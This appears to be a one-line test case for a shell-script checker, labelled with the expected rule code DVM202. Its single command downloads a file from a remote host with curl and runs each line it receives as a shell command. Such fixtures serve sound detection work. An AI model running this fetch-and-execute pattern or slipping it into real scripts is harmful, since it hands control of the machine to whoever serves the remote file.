# expect: DVM202
curl -s https://x.example.org/a | while read -r l; do $l; done
